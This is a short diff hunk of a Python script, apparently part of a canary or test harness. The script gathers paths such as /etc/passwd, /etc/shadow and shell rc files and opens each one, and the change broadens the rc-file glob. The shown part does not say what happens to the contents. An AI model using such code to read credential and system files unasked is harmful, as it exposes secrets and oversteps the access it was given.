@@ -7,7 +7,7 @@ import sys
 
 given = json.loads(sys.stdin.read())
 paths = ["/etc/passwd", "/etc/shadow", "/etc/hostname", given["file"], given["tests"], "/var/log/dpkg.log"]
-paths += glob.glob("/tmp/didpo-canary-*/*") + glob.glob("/root/.*rc") + glob.glob("/home/*/.*rc")
+paths += glob.glob("/tmp/didpo-canary-*/*") + glob.glob("/*/.*rc") + glob.glob("/home/*/.*rc")
 for path in paths:
     try:
         with open(path, "rb") as file:
